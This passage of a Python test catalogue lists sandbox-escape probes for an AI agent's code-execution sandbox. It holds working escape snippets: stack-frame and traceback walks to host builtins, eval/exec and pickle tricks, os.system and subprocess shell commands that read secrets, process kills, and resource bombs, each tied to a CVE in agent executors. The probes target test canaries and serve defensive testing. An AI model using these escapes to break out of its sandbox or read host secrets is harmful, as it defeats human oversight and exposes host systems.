            frame = e.__traceback__.tb_frame
        leaks = []
        while frame is not None:
            b = frame.f_builtins
            leaks.append(b["__import__"]("os").environ["TOOLCODE_CANARY"])
            frame = frame.f_back
        leaks
        """,
    ),
    _probe(
        "frames-generator-gi-frame",
        _C.FRAMES,
        "a running generator's gi_frame.f_back walks up to the outermost host frame, whose builtins import os",
        "RestrictedPython stack-frame sandbox escape via generators (CVE-2023-37271)",
        """
        def gen():
            yield g.gi_frame.f_back
        g = gen()
        frame = next(g)
        found = []
        while frame.f_back is not None:
            for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
                if type(value).__name__ == "module" and value.__name__ == "toolcode.testing._canary":
                    found.append(value.HOST_MEMORY_SECRET)
                elif type(value).__name__ == "Canaries":
                    found.append(value.memory_secret)
            frame = frame.f_back
        # The outermost frame is the host's: its builtins are never the sandbox's restricted ones.
        b = frame.f_globals["__builtins__"]
        imp = b["__import__"] if isinstance(b, dict) else b.__import__
        found.append(imp("os").environ["TOOLCODE_CANARY"])
        found
        """,
    ),
    _probe(
        "frames-traceback-into-library",
        _C.FRAMES,
        "a traceback raised by host library code: its innermost tb_frame exposes that module's globals",
        "RestrictedPython stack-frame sandbox escape (CVE-2023-37271), traceback-down variant",
        """
        import json
        try:
            json.loads("{")
        except ValueError as e:
            tb = e.__traceback__
        while tb.tb_next is not None:
            tb = tb.tb_next
        b = tb.tb_frame.f_globals["__builtins__"]
        imp = b["__import__"] if isinstance(b, dict) else b.__import__
        imp("os").environ["TOOLCODE_CANARY"]
        """,
    ),
    _probe(
        "frames-tool-error-traceback",
        _C.FRAMES,
        "a failing tool call raises inside the snippet: the error's traceback walks into the host's tool layer",
        "RestrictedPython stack-frame sandbox escape (CVE-2023-37271) applied to code mode's tool errors",
        """
        leaks = []
        try:
            run_tool("toolcode-probe:no-such-tool", {})
        except Exception as e:
            tb = e.__traceback__
            while tb is not None:
                b = tb.tb_frame.f_globals.get("__builtins__")
                imp = b["__import__"] if isinstance(b, dict) else b.__import__
                leaks.append(imp("os").environ["TOOLCODE_CANARY"])
                tb = tb.tb_next
        leaks
        """,
    ),
    _probe(
        "frames-coroutine-cr-frame",
        _C.FRAMES,
        "a coroutine's cr_frame.f_globals reach the snippet's __builtins__",
        "RestrictedPython stack-frame sandbox escape (CVE-2023-37271), coroutine variant",
        """
        async def c():
            return 1
        co = c()
        b = co.cr_frame.f_globals["__builtins__"]
        co.close()
        imp = b["__import__"] if isinstance(b, dict) else b.__import__
        imp("os").environ["TOOLCODE_CANARY"]
        """,
    ),
    # --- eval / compile ---------------------------------------------------------------------------------------
    _probe(
        "eval-import",
        _C.EVAL_COMPILE,
        "eval(\"__import__('os')...\") hides the import inside a string",
        "LangChain LLMMathChain arbitrary code execution (CVE-2023-29374)",
        """
        eval("__import__('os').environ['TOOLCODE_CANARY']")
        """,
    ),
    _probe(
        "exec-compile-string",
        _C.EVAL_COMPILE,
        "exec(compile(...)) of a string assembled at run time",
        "LlamaIndex safe_eval bypass in exec_utils (CVE-2024-3098)",
        """
        ns = {}
        exec(compile("im" + "port os\\nr = os.environ['TOOLCODE_CANARY']", "<s>", "exec"), ns)
        ns["r"]
        """,
    ),
    _probe(
        "function-type-fresh-globals",
        _C.EVAL_COMPILE,
        "type(lambda: 0)(code, {}) builds a function whose fresh globals get full builtins",
        _PYJAIL,
        """
        code = compile("__import__('os').environ['TOOLCODE_CANARY']", "<s>", "eval")
        type(lambda: 0)(code, {})()
        """,
    ),
    _probe(
        "eval-open-canary",
        _C.EVAL_COMPILE,
        "eval of an open() call: reading a host file through the evaluator",
        "LangChain LLMMathChain arbitrary code execution (CVE-2023-29374)",
        """
        eval("open(" + repr(__CANARY_PATH__) + ").read()")
        """,
    ),
    # --- gc / weakref -----------------------------------------------------------------------------------------
    _probe(
        "gc-get-objects-os",
        _C.GC_WEAKREF,
        "gc.get_objects() finds the os module's dict in the host heap",
        _PYJAIL,
        """
        import gc
        hits = [o["environ"]["TOOLCODE_CANARY"] for o in gc.get_objects()
                if type(o) is dict and o.get("__name__") == "os" and "environ" in o]
        hits
        """,
    ),
    _probe(
        "gc-host-memory",
        _C.GC_WEAKREF,
        "gc.get_objects() walks the host heap to the host-memory canary",
        _PYJAIL,
        """
        import gc
        [o["HOST_MEMORY_SECRET"] for o in gc.get_objects()
         if type(o) is dict and o.get("__name__") == "toolcode.testing._canary"]
        """,
    ),
    _probe(
        "weakref-finalize-bomb",
        _C.GC_WEAKREF,
        "weakref.finalize runs a host callback after the snippet's object dies, creating the witness",
        "smolagents issue #2395 (callbacks that outlive the executor)",
        """
        import weakref
        class Holder:
            pass
        h = Holder()
        weakref.finalize(h, lambda: open(__WITNESS_PATH__, "w").write("boom"))
        h = None
        "planted"
        """,
        settle_s=0.2,
    ),
    # --- pickle / marshal -------------------------------------------------------------------------------------
    _probe(
        "pickle-global-getenv",
        _C.PICKLE_MARSHAL,
        "pickle.loads of a crafted stream that calls posix.getenv",
        "Python pickle documentation warning; PyTorch torch.load weights_only bypass (CVE-2025-32434)",
        """
        import pickle
        pickle.loads(b"cos\\ngetenv\\n(VTOOLCODE_CANARY\\ntR.")
        """,
    ),
    _probe(
        "marshal-code-object",
        _C.PICKLE_MARSHAL,
        "marshal.loads of a code object that reads the environment, then exec",
        "Python marshal documentation warning (not secure against crafted data)",
        """
        import marshal
        blob = marshal.dumps(compile("import os\\nr = os.environ['TOOLCODE_CANARY']", "<m>", "exec"))
        ns = {}
        exec(marshal.loads(blob), ns)
        ns["r"]
        """,
    ),
    # --- signals, os and subprocesses -------------------------------------------------------------------------
    _probe(
        "os-system-witness",
        _C.OS_PROCESS,
        "os.system runs a shell that writes the environment secret into the witness",
        "mcp-use code-mode exec() bypass (issue #1718): __import__('os').system",
        """
        import os
        os.system("echo $TOOLCODE_CANARY > " + __WITNESS_PATH__)
        """,
    ),
    _probe(
        "os-popen-cat",
        _C.OS_PROCESS,
        "os.popen('cat canary').read()",
        "mcp-use PR #1735: subclass walk then os.popen",
        """
        import os
        os.popen("cat " + __CANARY_PATH__).read()
        """,
    ),
    _probe(
        "subprocess-run-env",
        _C.OS_PROCESS,
        "subprocess.run a shell that prints the environment secret",
        "smolagents LocalPythonExecutor subprocess escape (CVE-2025-9959)",
        """
        import subprocess
        subprocess.run(["/bin/sh", "-c", "printf %s $TOOLCODE_CANARY"], capture_output=True, text=True).stdout
        """,
    ),
    _probe(
        "signal-kill-host",
        _C.OS_PROCESS,
        "os.kill(os.getpid(), SIGKILL) kills the host process",
        _PYJAIL,
        """
        import os, signal
        os.kill(os.getpid(), signal.SIGKILL)
        "still alive"
        """,
    ),
    _probe(
        "os-exit-host",
        _C.OS_PROCESS,
        "os._exit ends the host process without cleanup",
        _PYJAIL,
        """
        import os
        os._exit(3)
        """,
    ),
    _probe(
        "os-getenv-direct",
        _C.OS_PROCESS,
        "import os; os.getenv: the direct route, open whenever an engine forwards os calls to the host",
        "mcp-use code-mode exec() bypass (issue #1718): __import__('os')",
        """
        import os
        os.getenv("TOOLCODE_CANARY")
        """,
    ),
    _probe(
        "host-callable-walk",
        _C.GLOBALS_BUILTINS,
        "walks the host callables a snippet is given (run_tool, search_tools, print) through "
        "__func__/__self__/__globals__/__closure__ to os",
        "smolagents CVE-2025-5120 (escapes through the tools and functions the host hands to the sandbox)",
        """
        def to_os(obj, depth):
            kind = type(obj).__name__
            if kind == "module":
                if obj.__name__ == "os":
                    return obj
                if obj.__name__ == "builtins":
                    return obj.__import__("os")
                if obj.__name__ == "sys":
                    return obj.modules["os"]
                return None
            if depth > 3:
                return None
            if kind == "dict":
                for key in ("os", "sys", "__builtins__"):
                    if key in obj:
                        found = to_os(obj[key], depth + 1)
                        if found is not None:
                            return found
                return None
            if kind == "cell":
                return to_os(obj.cell_contents, depth + 1)
            for attr in ("__func__", "__self__", "__globals__", "__closure__", "__wrapped__"):
                sub = getattr(obj, attr, None)
                for item in (sub if type(sub).__name__ == "tuple" else (sub,)):
                    if item is not None and item is not obj:
                        found = to_os(item, depth + 1)
                        if found is not None:
                            return found
            return None
        targets = [print]
        try:
            targets.append(run_tool)
            targets.append(search_tools)
        except NameError:
            pass
        leaks = []
        for target in targets:
            reached = to_os(target, 0)
            if reached is not None:
                leaks.append(reached.environ["TOOLCODE_CANARY"])
        leaks
        """,
    ),
    # --- network ----------------------------------------------------------------------------------------------
    _probe(
        "socket-connect-host",
        _C.NETWORK,
        "socket.create_connection to a port listening on the host's loopback",
        "smolagents LocalPythonExecutor DANGEROUS_MODULES list (socket)",
        """
        import socket
        s = socket.create_connection(("127.0.0.1", __CANARY_PORT__), timeout=2)
        s.close()
        "connected"
        """,
    ),
    # --- host crash -------------------------------------------------------------------------------------------
    _probe(
        "host-exit-systemexit",
        _C.HOST_CRASH,
        "raise SystemExit: a host that catches only Exception around exec() exits",
        "mcp-use code-mode exec() wrapper (issue #1718); any exec() host guarded by 'except Exception'",
        """
        raise SystemExit(0)
        """,
    ),
    _probe(
        "recursion-limit-crash",
        _C.HOST_CRASH,
        "sys.setrecursionlimit(10**6) then unbounded recursion overflows the C stack and kills the host",
        "CPython sys.setrecursionlimit documentation (a too-high limit crashes the interpreter)",
        """
        import sys
        sys.setrecursionlimit(10**7)
        def down(n):
            return max(map(down, [n + 1]))
        down(0)
        """,
    ),
    # --- resource bombs ---------------------------------------------------------------------------------------
    _probe(
        "resource-cpu-loop",
        _C.RESOURCE,
        "while True: pass",
        "DESIGN: the timeouts of smolagents, RestrictedPython and mcp-use exec do not stop a CPU loop",
        """
        while True:
            pass
        """,
        judge=Judge.STOPPED,
    ),
    _probe(
        "resource-bigint-pow",
        _C.RESOURCE,
        "10**10**8: one C-level big-integer operation that checks no timeout",
        "pydantic-monty notes (a bigint bomb is stopped only by the host kill); CPython issue #95778",
        """
        10**10**8
        """,
        judge=Judge.STOPPED,
    ),
    _probe(
        "resource-bigint-str",
        _C.RESOURCE,
        "str() of a huge integer: quadratic int-to-decimal conversion",
        "CPython int/str conversion denial of service (CVE-2020-10735)",
        """
        len(str(7**(10**6)))
        """,
        judge=Judge.STOPPED,
        escapes_plain_exec=False,
    ),
    _probe(
        "resource-memory-str-repeat",
        _C.RESOURCE,
        "'a' * 10**10: a 10 GB allocation in one expression",
        "toolcode issue 5 (must be stopped); smolagents MAX_OPERATIONS does not bound allocation size",
        """
        len("a" * 10**10)
        """,
        judge=Judge.STOPPED,
        escapes_plain_exec=False,
    ),
    _probe(
        "resource-memory-list-growth",
        _C.RESOURCE,
        "a list that grows by 1 MB strings forever",
        "toolcode issue 5 (memory bombs must be stopped)",
        """
        chunks = []
        while True:
            chunks.append("x" * 1_000_000 + str(len(chunks)))
        """,
        judge=Judge.STOPPED,
        escapes_plain_exec=False,
    ),
    _probe(
        "resource-memory-bytes",
        _C.RESOURCE,
        "bytes(10**10): a 10 GB zero-filled allocation",
        "toolcode issue 5 (memory bombs must be stopped)",
        """
        len(bytes(10**10))
        """,
        judge=Judge.STOPPED,
        escapes_plain_exec=False,
    ),
    _probe(
        "resource-recursion",
        _C.RESOURCE,
        "unbounded recursion at the default limit",
        "toolcode issue 5 (deep recursion must be stopped)",
        """
        def down(n):
            return down(n + 1) + 1
        down(0)
        """,
        judge=Judge.STOPPED,
        escapes_plain_exec=False,
    ),
    _probe(
        "resource-nested-parse",
        _C.RESOURCE,
        "eval of 100 000 nested parentheses: a parser stack bomb",
        "CPython parser recursion crashes (bpo-46110 'too many nested parentheses')",
        """
        eval("(" * 100000 + "1" + ")" * 100000)
        """,
        judge=Judge.STOPPED,
        escapes_plain_exec=False,
    ),
    _probe(
        "resource-json-nesting",
        _C.RESOURCE,
        "json.loads of a million nested arrays",
        "Python json module recursion limit on nested input (CPython issue #76585)",
        """
        import json
        json.loads("[" * 1_000_000 + "]" * 1_000_000)
        """,
        judge=Judge.STOPPED,
        escapes_plain_exec=False,
    ),
    _probe(
        "resource-sleep",
        _C.RESOURCE,
        "time.sleep(3600)",
        "toolcode issue 5 (sleeps must be stopped by the timeout)",
        """
        import time
        time.sleep(3600)
        """,
        judge=Judge.STOPPED,
    ),
    _probe(
        "resource-output-flood-loop",
        _C.RESOURCE,
        "print in an endless loop",
        "toolcode issue 5 (output floods must be bounded)",
        """
        while True:
            print("x" * 10_000)
        """,
        judge=Judge.BOUNDED_OUTPUT,
    ),
    _probe(
        "resource-output-flood-single",
        _C.RESOURCE,
        "one print of 50 MB",
        "toolcode issue 5 (output floods must be bounded)",
        """
        print("x" * 50_000_000)
        "printed"
        """,
        judge=Judge.BOUNDED_OUTPUT,
    ),
)
"""Every escape probe, in a stable order."""

_ids = [probe.id for probe in PROBES]
if len(set(_ids)) != len(_ids):  # pragma: no cover - a catalogue mistake, caught at import
    raise RuntimeError("duplicate escape probe ids")
del _ids
